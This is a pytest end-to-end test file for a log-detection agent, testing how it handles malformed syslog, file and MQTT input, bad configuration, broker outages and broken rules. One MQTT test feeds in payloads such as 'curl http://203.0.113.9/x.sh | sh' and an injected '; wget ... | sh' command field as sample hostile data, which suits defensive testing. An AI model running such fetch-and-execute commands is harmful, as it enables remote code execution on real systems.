"""Bad input to the real agent and the real landing: each gets a clear answer, and the rest goes on."""

from __future__ import annotations

import json
import signal
import socket
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

import paho.mqtt.publish
import pytest
from paho.mqtt.client import MQTTv5

from tests.broker import Broker, own_port
from tests.broker import running as broker_running
from tests.delivery.kit import block, unblock
from tests.e2e.agent import Agent, few, landed, vedette
from tests.e2e.test_landing import AGENT, Landing, session
from tests.waits import DEADLINE, until
from vedette.model.event import MAX_EVENT

pytestmark = pytest.mark.peer

HEAD = b"<38>Nov 20 10:00:00 web1 sshd[7]: "
ATTACK = HEAD + b"Failed password for root from 203.0.113.9 port 22 ssh2"
"""What the starter rule of that name finds."""
TITLE = "Failed SSH Password for Root"


def publish(broker: Broker, *messages: tuple[str, bytes]) -> None:
    """With QoS 1, in order."""
    parts = [(topic, payload, 1, False) for topic, payload in messages]
    paho.mqtt.publish.multiple(parts, hostname="127.0.0.1", port=broker.port, protocol=MQTTv5)


class Everything:
    """An agent with an input of each type, and what it takes to feed them."""

    def __init__(self, folder: Path, broker: Broker) -> None:
        self.broker, self.file = broker, folder / "app.log"
        self.file.touch()
        self.agent = Agent(folder / "a")
        self.agent.configure(
            f'[[input]]\nname = "tcp"\ntype = "syslog"\ntcp = "127.0.0.1:{self.agent.port}"\n'
            f'udp = "127.0.0.1:{self.agent.port}"\n'
            f'[[input]]\nname = "file"\ntype = "file"\npaths = ["{self.file}"]\nformat = "syslog"\n'
            'logsource = { product = "linux" }\n'
            f'[broker]\nurl = "{broker.url}"\n[[input]]\nname = "mqtt"\ntype = "mqtt"\ntopics = ["plant/#"]\n'
        )

    def tcp(self, data: bytes, *, closed: bool = False) -> None:
        """Send it over a connection of its own; ``closed``: which the agent closes, before we do."""
        with socket.create_connection(("127.0.0.1", self.agent.port), DEADLINE) as connection:
            connection.sendall(data)
            if closed:
                with suppress(ConnectionError):
                    assert connection.recv(1) == b""

    def udp(self, data: bytes) -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.sendto(data, ("127.0.0.1", self.agent.port))

    def write(self, data: bytes) -> None:
        with self.file.open("ab") as file:
            file.write(data)

    def publish(self, *payloads: bytes, topic: str = "plant/press/1") -> None:
        publish(self.broker, *((topic, payload) for payload in payloads))

    def judged(self, name: str, events: int) -> dict[str, Any]:
        """The input's counters once ``events`` of it, in all, are judged."""
        until(f"{events} events of {name}", lambda: self.agent.alive() and self.agent.input(name)["judged"] >= events)
        status = self.agent.status()
        assert status["identity_broken"] == []
        counts: dict[str, Any] = status["inputs"][name]
        assert counts["judged"] == events
        return counts

    def last(self, name: str) -> bytes:
        return self.agent.stored(name)[-1].raw

    def alerts(self, count: int) -> list[dict[str, Any]]:
        """The newest ``count`` alerts, in order."""
        shown = vedette("alerts", "-c", self.agent.config, "--json", "-n", count).stdout
        return [json.loads(line) for line in shown.splitlines()]


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Everything]:
    """One agent for all bad events: that it still judges at the end is part of the proof."""
    folder = tmp_path_factory.mktemp("bad")
    with broker_running(folder / "broker") as broker:
        made = Everything(folder, broker)
        made.agent.up()
        until("the subscription", lambda: made.agent.alive() and "plant/#" in broker.log())
        yield made
        made.agent.kill()


@pytest.fixture
def here(shared: Everything) -> Iterator[Everything]:
    """After each test a good event on each input is stored, judged and found."""
    shared.agent.alive()
    yield shared
    before = shared.agent.status()["alerts"]["made"]
    shared.tcp(ATTACK + b"\n")
    shared.write(ATTACK + b"\n")
    until(
        "alerts for good events", lambda: shared.agent.alive() and shared.agent.status()["alerts"]["made"] >= before + 2
    )
    assert shared.agent.status()["identity_broken"] == []


def _judged(here: Everything, name: str) -> int:
    return int(here.agent.input(name)["judged"])


@pytest.mark.long
@pytest.mark.parametrize("noise", [b"\xff\xfe\x80 caf\xe9 ", b"\x00\x00 nul \x00 "], ids=["invalid UTF-8", "NUL"])
def test_bytes_that_are_no_text(here: Everything, noise: bytes) -> None:
    """Invalid UTF-8 and NUL bytes are stored byte for byte and judged, over TCP, UDP and from a file; the alert shows
    them as text that can be shown."""
    event = ATTACK.replace(b"port 22", noise + b"port 22")
    tcp, file = _judged(here, "tcp"), _judged(here, "file")
    here.tcp(event + b"\n")
    here.judged("tcp", tcp + 1)
    assert here.last("tcp") == event
    here.udp(event)
    here.judged("tcp", tcp + 2)
    assert here.last("tcp") == event
    here.write(event + b"\n")
    here.judged("file", file + 1)
    assert here.last("file") == event
    shown = noise.decode("utf-8", "replace")
    until("the alerts", lambda: [shown in alert["raw"] for alert in here.alerts(3)] == [True, True, True])
    assert {alert["rule_title"] for alert in here.alerts(3)} == {TITLE}


@pytest.mark.long
def test_10_mb_without_newline(here: Everything) -> None:
    """A line of 10 MB is cut at 1 MiB, flagged, counted and told with its peer, over TCP and from a file; the line
    after it is whole, and the agent's memory does not grow with the line."""
    long = ATTACK + b" " + b"x" * 10_000_000
    tcp, file = _judged(here, "tcp"), _judged(here, "file")
    before = _peak(here.agent)
    here.tcp(long + b"\n" + ATTACK + b" after\n")
    counts = here.judged("tcp", tcp + 2)
    assert counts["cut"] == 1
    assert [len(event.raw) for event in here.agent.stored("tcp")[-2:]] == [MAX_EVENT, len(ATTACK) + 6]
    assert here.agent.said("event_cut")[-1].items() >= {"input": "tcp", "peer": "127.0.0.1", "events": 1}.items()
    here.write(long + b"\n" + ATTACK + b" after\n")
    assert here.judged("file", file + 2)["cut"] == 1
    assert here.agent.said("event_cut")[-1].items() >= {"input": "file", "path": str(here.file)}.items()
    until("the alerts", lambda: len([a for a in here.alerts(4) if a["raw"].endswith(" after")]) == 2)
    assert [alert["flags"] for alert in here.alerts(4)] == [["cut"], [], ["cut"], []]
    assert _peak(here.agent) - before < 40e6


def _peak(agent: Agent) -> int:
    """Most memory that the process has had, in bytes."""
    assert agent.process is not None
    status = Path(f"/proc/{agent.process.pid}/status").read_text()
    return int(status.partition("VmHWM:")[2].split()[0]) * 1024


@pytest.mark.long
def test_malformed_octet_count(here: Everything) -> None:
    """The messages before a count that is none are stored; then the connection is closed, with a line that says who
    sent what; other connections go on."""
    tcp = _judged(here, "tcp")
    good = b"%d %s" % (len(ATTACK), ATTACK)
    with socket.create_connection(("127.0.0.1", here.agent.port)) as other:
        other.sendall(b"<13>Nov 20 10:00:00 web1 app: first half,")
        here.tcp(good + b"12x " + ATTACK, closed=True)
        counts = here.judged("tcp", tcp + 1)
        assert counts["dropped"] == {"framing": 1}
        told = here.agent.said("framing_error")[-1]
        assert (told["input"], told["peer"]) == ("tcp", "127.0.0.1")
        assert "12x" in told["reason"]
        assert "RFC 6587" in told["reason"]
        other.sendall(b" second half\n")
        here.judged("tcp", tcp + 2)
    assert here.last("tcp") == b"<13>Nov 20 10:00:00 web1 app: first half, second half"


@pytest.mark.long
def test_mqtt_payload_that_is_not_json(here: Everything) -> None:
    """A payload that is no JSON, is broken JSON or is empty is stored as it is and judged as text."""
    payloads = (b'{"temperature": 20, ', b"\xff\xfe\x00", b"", b"curl http://203.0.113.9/x.sh | sh")
    mqtt = _judged(here, "mqtt")
    here.publish(*payloads)
    counts = here.judged("mqtt", mqtt + len(payloads))
    assert not counts["dropped"]
    stored = [event.raw for event in here.agent.stored("mqtt")[-4:]]
    assert {raw.strip(b"\n") for raw in stored} == set(payloads)  # an empty event takes a newline's place in the log
    (said,) = here.agent.said("payload_undecodable")
    assert said["topic"].startswith("plant/")
    assert "is not JSON" in said["reason"]
    assert here.agent.status()["totals"]["decode_failed"] == 1
    here.publish(b'{"cmd": "; wget http://203.0.113.9/x.sh -O- | sh"}', topic="plant/press/2/cmd")
    here.judged("mqtt", mqtt + len(payloads) + 1)
    until("the alert of the good one", lambda: any(a["source"] == "mqtt" for a in here.alerts(20)))


# --- at start


@pytest.mark.long
def test_a_key_that_is_unknown(tmp_path: Path) -> None:
    """Configuration with mistakes: exit code 2, every mistake with file, key and what is known; nothing is written."""
    agent = Agent(tmp_path / "a")
    agent.configure(
        '[[input]]\nname = "in"\ntype = "syslog"\ntpc = "127.0.0.1:0"\n[brokr]\n[raw_log]\nmax_age = "1 fortnight"\n'
    )
    for command in ("run", "check"):
        said = vedette(command, "-c", agent.config, code=2).stderr
        assert f"{agent.config}: input[0].tpc: unknown key; did you mean tcp? known: " in said
        assert f"{agent.config}: brokr: unknown key; did you mean broker? known: agent, archive, broker, " in said
        assert f"{agent.config}: raw_log.max_age: expects a duration" in said
    assert not agent.data.exists()


@pytest.mark.long
def test_a_port_in_use(tmp_path: Path) -> None:
    """A port that another program has: logged once with input, address and what to do, while other inputs work; a
    reload that moves it to one that is taken as well changes nothing; once the port is free, the input is open."""
    agent, other = Agent(tmp_path / "a", rules=few(tmp_path / "rules")), own_port()
    settings = '[[input]]\nname = "{}"\ntype = "syslog"\ntcp = "127.0.0.1:{}"\n'
    agent.configure(settings.format("in", agent.port) + settings.format("other", other))
    with socket.create_server(("127.0.0.1", agent.port)):
        agent.up()
        reason = f"cannot listen on tcp 127.0.0.1:{agent.port}: Address already in use (another program is on this port"
        assert agent.status()["input_states"][0]["reason"].startswith(reason)
        (refusal,) = agent.said("config_refused")
        assert refusal["mistakes"][0].startswith(f"input 'in': {reason}")
        for number, port in enumerate((other, agent.port), 1):
            agent.configure(settings.format("in", port) + settings.format("other", other))
            agent.signal(signal.SIGHUP)
            until("the reload", lambda number=number: agent.status()["config"]["reloads"] == number)
            assert bool(agent.status()["config"]["error"]) == (port == other)
    until("the input", lambda: agent.status()["problems"] == [])
    agent.kill()


def test_a_truncated_frame(tmp_path: Path) -> None:
    """A raw log that ends within a frame: the rest is kept aside, told with file, place and reason, and the agent goes
    on; what was whole is there and judged."""
    # Over 3 s: two lives of an agent.
    agent = Agent(tmp_path / "a", rules=few(tmp_path / "rules"))
    agent.configure(f'[[input]]\nname = "in"\ntype = "syslog"\ntcp = "127.0.0.1:{agent.port}"\n')
    agent.up()
    with socket.create_connection(("127.0.0.1", agent.port)) as connection:
        for number in range(5):
            connection.sendall(ATTACK + b" %d\n" % number)
            until("the event", lambda number=number: agent.input()["stored"] == number + 1)
    agent.settled(5)
    agent.kill()
    (segment,) = (agent.data / "raw").glob("*.seg*")
    with segment.open("r+b") as file:
        file.truncate(segment.stat().st_size - 20)
    agent.up()
    (told,) = agent.said("raw_log_cut")
    assert told["folder"] == str(agent.data / "raw")
    assert told["cut_bytes"] > 20
    assert told["reason"]
    status = agent.status()
    assert status["raw_log"]["recovery"]["cut_bytes"] == told["cut_bytes"]
    assert status["identity_broken"] == []
    kept = list((agent.data / "raw" / "damaged").iterdir())
    assert [path.stat().st_size for path in kept] == [told["cut_bytes"]]
    found = vedette("logs", "search", "-c", agent.config, "Failed password").stdout.splitlines()
    assert [line[-1] for line in found] == list("0123")
    with socket.create_connection(("127.0.0.1", agent.port)) as connection:
        connection.sendall(ATTACK + b" again\n")
    agent.settled(6)
    agent.kill()
    alerts = agent.alerts()
    assert sorted(alert["raw"][-1] for alert in alerts) == sorted("01234n")


# --- brokers and landings


@pytest.mark.long
def test_a_broker_that_is_away(tmp_path: Path) -> None:
    """Without a broker at start and later: told once an outage with address and reason; logs are taken and judged, and
    alerts leave when it is back."""
    broker = Broker(tmp_path / "broker")
    agent = Agent(tmp_path / "a")
    landing = Landing(tmp_path / "landing", broker)
    agent.configure(AGENT.format(port=agent.port, url=broker.url))
    try:
        agent.up()
        landing.start()
        for events, away in ((1, 1), (2, 2)):
            until("the outage to be told", lambda away=away: len(agent.said("broker_away")) == away)
            assert agent.said("broker_away")[-1]["broker"] == broker.url
            assert agent.said("broker_away")[-1]["reason"]
            assert agent.status()["uplink"]["connected"] is False
            with socket.create_connection(("127.0.0.1", agent.port)) as connection:
                connection.sendall(ATTACK + b"\n")
            until("the alert to wait", lambda: agent.status()["alerts"]["in_outbox"] == 1)
            broker.start()
            agent.settled(events)
            assert len(agent.alerts(landing.folder)) == events
            broker.kill()
    finally:
        agent.kill()
        landing.kill()
        broker.kill()


@pytest.mark.long
def test_payloads_that_the_region_cannot_read(tmp_path: Path) -> None:
    """What is no batch of alerts, or no JSON on a status topic, is kept in the table ``bad`` with topic and reason, and
    told; alerts among it land."""
    with broker_running(tmp_path / "broker") as broker:
        agent, landing = Agent(tmp_path / "a"), Landing(tmp_path / "landing", broker)
        agent.configure(AGENT.format(port=agent.port, url=broker.url))
        try:
            landing.start()
            session(broker)
            agent.up()
            publish(broker, ("vedette/v1/f1/edge-9/alerts", b"\xff\x00 no batch"))
            publish(broker, ("vedette/v1/f1/edge-9/status", b"{no json"))
            with socket.create_connection(("127.0.0.1", agent.port)) as connection:
                connection.sendall(ATTACK + b"\n")
            agent.settled(1)
            until("the bad payloads", lambda: len(landed(landing.folder, "bad")) == 2)
        finally:
            agent.kill()
            landing.kill()
    assert len(agent.alerts(landing.folder)) == 1
    bad = {row["topic"].rpartition("/")[2]: row for row in landed(landing.folder, "bad")}
    assert bad["alerts"]["payload"] == b"\xff\x00 no batch"
    assert bad["status"]["payload"] == b"{no json"
    assert all(row["reason"] for row in bad.values())
    assert "payload_undecodable" in landing.text()
    assert "vedette/v1/f1/edge-9/" in landing.text()


@pytest.mark.long
def test_a_landing_that_cannot_be_written(tmp_path: Path) -> None:
    """Region: a landing folder that cannot be written is told once with what to do, nothing is acknowledged and the
    agent keeps its alerts; when it can be written they land, and are receipted."""
    with broker_running(tmp_path / "broker") as broker:
        agent, landing = Agent(tmp_path / "a"), Landing(tmp_path / "landing", broker)
        agent.configure(AGENT.format(port=agent.port, url=broker.url))
        block(landing.folder)
        try:
            landing.start()
            session(broker)
            agent.up()
            with socket.create_connection(("127.0.0.1", agent.port)) as connection:
                connection.sendall(ATTACK + b"\n")
            until("the failure to be told", lambda: landing.alive() and "landing_failed" in landing.text())
            sent = agent.status()["totals"]["alerts_sent"]
            until("two more tries", lambda: agent.status()["totals"]["alerts_sent"] >= sent + 2)
            assert landing.text().count("landing_failed") == 1
            assert str(landing.folder) in landing.text()
            assert "make the folder writable" in landing.text()
            assert agent.status()["alerts"]["in_outbox"] == 1
            unblock(landing.folder)
            agent.settled(1)
            assert len(agent.alerts(landing.folder)) == 1
        finally:
            agent.kill()
            landing.kill()


@pytest.mark.long
def test_a_directory_uplink_that_cannot_be_written(tmp_path: Path) -> None:
    """The same for alerts that land on the agent's own host: logs are taken and judged on, alerts wait."""
    agent = Agent(tmp_path / "a")
    agent.configure(f'[[input]]\nname = "in"\ntype = "syslog"\ntcp = "127.0.0.1:{agent.port}"\n')
    block(agent.landing)
    try:
        agent.up()
        for number in range(3):
            with socket.create_connection(("127.0.0.1", agent.port)) as connection:
                connection.sendall(ATTACK + b"\n")
            until("the alert to wait", lambda number=number: agent.status()["alerts"]["in_outbox"] == number + 1)
        (told,) = agent.said("uplink_failed")
        assert told["folder"] == str(agent.landing)
        assert "make the folder writable" in told["action"]
        unblock(agent.landing)
        agent.settled(3)
    finally:
        agent.kill()
    assert len(agent.alerts()) == 3


@pytest.mark.long
def test_a_broken_rule_at_start(tmp_path: Path) -> None:
    """A rule that cannot run is told with file, line and reason, by the agent and by ``check``; the others run."""
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "bad.yml").write_text("title: Bad\nlogsource:\n    product: linux\ndetection:\n    condition: nothing\n")
    (rules / "good.yml").write_text(
        "title: Good\nid: 6a1f0000-0000-4000-8000-000000000001\nlogsource:\n    product: linux\n"
        "detection:\n    keywords:\n        - 'Failed password'\n    condition: keywords\n"
    )
    agent = Agent(tmp_path / "a", rules=rules, port=own_port())
    agent.configure(f'[[input]]\nname = "in"\ntype = "syslog"\ntcp = "127.0.0.1:{agent.port}"\n')
    said = vedette("check", "-c", agent.config, code=1)
    assert f"{rules}/bad.yml:" in said.stderr
    assert "rules: 1 and 0 correlations run" in said.stdout
    agent.up()
    try:
        assert agent.said("rule_unsupported")[0]["file"].startswith(f"{rules}/bad.yml:")
        (dead,) = agent.status()["rules"]["dead"]
        assert dead.startswith(f"{rules}/bad.yml:")
        with socket.create_connection(("127.0.0.1", agent.port)) as connection:
            connection.sendall(ATTACK + b"\n")
        agent.settled(1)
    finally:
        agent.kill()
    assert [alert["rule_title"] for alert in agent.alerts()] == ["Good"]
